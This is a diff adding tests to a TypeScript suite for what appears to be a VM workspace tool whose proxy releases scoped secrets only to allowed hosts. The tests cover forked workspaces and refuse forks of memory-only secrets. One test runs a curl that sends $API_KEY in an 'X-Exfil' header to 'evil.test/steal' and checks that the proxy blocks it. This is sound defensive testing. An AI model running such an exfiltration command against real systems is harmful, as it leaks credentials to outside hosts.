@@ -154,6 +154,30 @@ describe("[vm] scoped secrets: placeholders in the guest, values only at the egr
     assert.ok(!JSON.stringify(summary).includes(placeholder.slice(12)), "the summary names secrets, not placeholders");
   });
 
+  it("a fork keeps the placeholder valid: the copy's own proxy sends the value to the scoped hosts only, with an audit of its own", TIMEOUT, async () => {
+    const fork = await pyro.forkWorkspace(id);
+    const copy = fork.forks[0]!.workspace_id;
+    try {
+      assert.equal(fork.forks[0]!.vm?.start_mode, "fork_restore");
+      assert.equal((await pyro.execWorkspace(copy, ["sh", "-c", 'echo "$API_KEY"'])).stdout, `${placeholder}\n`);
+      const curl = await pyro.execWorkspace(copy, ["sh", "-c", `curl -sS -m 60 -H "Authorization: Bearer $API_KEY" ${url("api.test", "/fork")}`]);
+      assert.equal(curl.exit_code, 0, curl.stderr);
+      assert.equal(upstream.received.at(-1)?.url, "/fork");
+      assert.equal(upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
+      const before = upstream.received.length;
+      const evil = await pyro.execWorkspace(copy, ["sh", "-c", `curl -sS -m 60 -w '\\n%{http_code}' -H "X-Exfil: $API_KEY" ${url("evil.test", "/steal")}`]);
+      assert.match(evil.stdout, /\n403$/);
+      assert.equal(upstream.received.length, before);
+      const logs = await pyro.logsWorkspace(copy);
+      assert.deepEqual(
+        logs.secrets?.map((s) => [s.name, s.sent_to["api.test"], s.refused_hosts]),
+        [["API_KEY", 1, { "evil.test": 1 }]],
+      );
+    } finally {
+      await pyro.deleteWorkspace(copy);
+    }
+  });
+
   it("no file pyro keeps for the workspace (disk, snapshot memory, logs, audit) holds the value but the proxy's own", TIMEOUT, async () => {
     const runDir = join(resolvePaths().runtimeDir, id);
     const egressLog = await readFile(join(runDir, "egress.log"), "utf8");
@@ -209,6 +233,10 @@ describe("[vm] memory-only scoped secrets", () => {
     const first = await pyro.execWorkspace(id, ["sh", "-c", call]);
     assert.match(first.stdout, /got auth=Bearer pyro-secret-[0-9a-f]{40}\n\n200$/);
     assert.equal(upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
+    // A copy could not have the value (only this VM's proxy holds it): fork says so and makes nothing.
+    const count = (await pyro.listWorkspaces()).count;
+    await assert.rejects(pyro.forkWorkspace(id), (e: Error & { code?: string }) => e.code === "INVALID_ARGUMENT" && /API_KEY.*memory only/.test(e.message));
+    assert.equal((await pyro.listWorkspaces()).count, count);
     await pyro.stopWorkspace(id);
     const workspaceDir = join(resolvePaths().stateDir, "workspaces", id);
     for (const file of await filesUnder(workspaceDir)) assert.ok(!(await holdsBytes(file, Buffer.from(VALUE))), `${file} holds the value`);
